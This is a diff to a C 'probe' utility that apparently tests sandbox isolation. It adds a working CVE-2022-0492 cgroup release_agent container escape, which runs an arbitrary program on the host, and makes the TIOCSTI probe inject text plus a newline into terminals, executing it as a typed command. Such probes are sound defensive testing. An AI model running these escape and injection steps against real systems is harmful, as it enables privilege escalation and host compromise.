@@ -7,9 +7,13 @@
  *   probe burn S   spin for S seconds; print the CPU seconds it got
  *   probe denied   try privileged operations; print each one's errno (0: it worked)
  *   probe uring    call io_uring_setup; print its errno (0: it made a ring)
- *   probe sti TEXT push TEXT into the terminal input of fds 0-2 and /dev/tty (TIOCSTI);
- *                  print each one's errno
- *   probe exchange A B S  swap A and B (renameat2 RENAME_EXCHANGE) over and over, S seconds */
+ *   probe sti TEXT push TEXT and a newline into the terminal input of fds 0-2 and of
+ *                  /dev/tty (TIOCSTI), as if typed there; print each one's errno
+ *   probe exchange A B S  swap A and B (renameat2 RENAME_EXCHANGE) over and over, S seconds
+ *   probe release-agent AGENT  CVE-2022-0492: unshare user, mount and cgroup namespaces,
+ *                  mount a cgroup v1 hierarchy, set its release_agent to AGENT and empty a
+ *                  cgroup to run it; also write /sys/fs/cgroup/memory/release_agent; print
+ *                  each step's errno */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <fcntl.h>
@@ -28,6 +32,7 @@
 #include <sys/ioctl.h>
 #include <sys/mount.h>
 #include <sys/resource.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <time.h>
 #include <unistd.h>
@@ -187,12 +192,12 @@ static void uring(void) {
   printf("{\"io_uring_setup\":%d}\n", fd < 0 ? errno : 0);
 }
 
-/* Each byte of text goes into the terminal's input queue, as if typed there. */
+/* Each byte of text, then a newline, goes into the terminal's input queue. */
 static int push(int fd, const char *text) {
   if (fd < 0) return errno;
   for (const char *c = text; *c; c++)
     if (ioctl(fd, TIOCSTI, c) < 0) return errno;
-  return 0;
+  return ioctl(fd, TIOCSTI, "\n") < 0 ? errno : 0;
 }
 
 static void sti(const char *text) {
@@ -208,6 +213,38 @@ static void exchange(const char *a, const char *b, int secs) {
   printf("{\"swaps\":%ld}\n", swaps);
 }
 
+static int write_file(const char *path, const char *text) {
+  int fd = open(path, O_WRONLY);
+  if (fd < 0) return errno;
+  int err = write(fd, text, strlen(text)) < 0 ? errno : 0;
+  close(fd);
+  return err;
+}
+
+static void release_agent(const char *agent) {
+  char map[64], pid[16];
+  snprintf(map, sizeof map, "0 %d 1", getuid());
+  int unshared = unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0 ? errno : 0;
+  if (!unshared) { /* root in the new namespace, as unshare -r does */
+    write_file("/proc/self/setgroups", "deny");
+    write_file("/proc/self/uid_map", map);
+    write_file("/proc/self/gid_map", map);
+  }
+  mkdir("/tmp/cg", 0755);
+  int mounted = 0;
+  for (const char *const *c = (const char *const[]){"rdma", "memory", "pids", NULL}; *c; c++)
+    if ((mounted = mount("cgroup", "/tmp/cg", "cgroup", 0, *c) < 0 ? errno : 0) == 0) break;
+  int set = write_file("/tmp/cg/release_agent", agent);
+  /* the agent runs when a cgroup with notify_on_release empties */
+  mkdir("/tmp/cg/x", 0755);
+  write_file("/tmp/cg/x/notify_on_release", "1");
+  snprintf(pid, sizeof pid, "%d", getpid());
+  write_file("/tmp/cg/x/cgroup.procs", pid);
+  write_file("/tmp/cg/cgroup.procs", pid);
+  int host = write_file("/sys/fs/cgroup/memory/release_agent", agent);
+  printf("{\"unshare\":%d,\"mount\":%d,\"release_agent\":%d,\"sys_release_agent\":%d}\n", unshared, mounted, set, host);
+}
+
 int main(int argc, char **argv) {
   setvbuf(stdout, NULL, _IOFBF, 1 << 16);
   if (argc >= 2 && !strcmp(argv[1], "facts")) facts();
@@ -220,7 +257,8 @@ int main(int argc, char **argv) {
   else if (argc >= 2 && !strcmp(argv[1], "uring")) uring();
   else if (argc >= 3 && !strcmp(argv[1], "sti")) sti(argv[2]);
   else if (argc >= 5 && !strcmp(argv[1], "exchange")) exchange(argv[2], argv[3], atoi(argv[4]));
-  else { fprintf(stderr, "usage: probe facts|orphan|sleep N|alloc MB|forks N|burn S|denied|uring|sti TEXT|exchange A B S\n"); return 2; }
+  else if (argc >= 3 && !strcmp(argv[1], "release-agent")) release_agent(argv[2]);
+  else { fprintf(stderr, "usage: probe facts|orphan|sleep N|alloc MB|forks N|burn S|denied|uring|sti TEXT|exchange A B S|release-agent AGENT\n"); return 2; }
   fflush(stdout);
   return 0;
 }
